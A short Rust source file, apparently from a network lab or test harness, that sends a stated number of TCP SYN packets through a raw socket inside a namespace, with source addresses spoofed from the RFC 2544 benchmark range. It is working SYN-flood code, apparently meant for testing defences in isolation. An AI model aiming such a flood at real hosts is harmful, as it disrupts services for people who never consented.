//! A flood: SYNs from addresses that nobody has.

use std::{
    net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4},
    os::fd::AsRawFd as _,
};

use anyhow::Result;
use nix::{
    errno::Errno,
    sys::socket::{AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket},
};
use xtask::lab::Namespace;

use crate::{
    packets::{Spec, flag},
    random::Random,
};

/// Bytes before the IP header in what [`Spec::build`] gives.
const ETHERNET: usize = 14;

/// Sends so many SYNs to an address from anywhere in 198.18.0.0/15 (RFC 2544: for benchmarks), through a raw
/// socket (raw(7)) of the place.
///
/// # Errors
/// When one cannot be sent.
pub fn syns(place: &Namespace, to: SocketAddrV4, number: u32, random: &mut Random) -> Result<()> {
    place.run(|| {
        let socket = socket(AddressFamily::Inet, SockType::Raw, SockFlag::SOCK_CLOEXEC, SockProtocol::Raw)?;
        let whom = SockaddrIn::from(SocketAddrV4::new(*to.ip(), 0));
        for _ in 0..number {
            let (host, port) = (random.below(1 << 17) as u32, random.below(60_000) as u16 + 1024);
            let from = IpAddr::from(Ipv4Addr::from(0xc612_0000 | host));
            let called = SocketAddr::V4(to);
            let mut spec = Spec::tcp((from, port), (called.ip(), called.port()), flag::SYN);
            spec.numbers.0 = random.next() as u32;
            let packet = &spec.build()[ETHERNET..];
            loop {
                match sendto(socket.as_raw_fd(), packet, &whom, MsgFlags::empty()) {
                    Err(Errno::ENOBUFS | Errno::EAGAIN) => std::thread::yield_now(),
                    sent => {
                        sent?;
                        break;
                    }
                }
            }
        }
        Ok(())
    })?
}
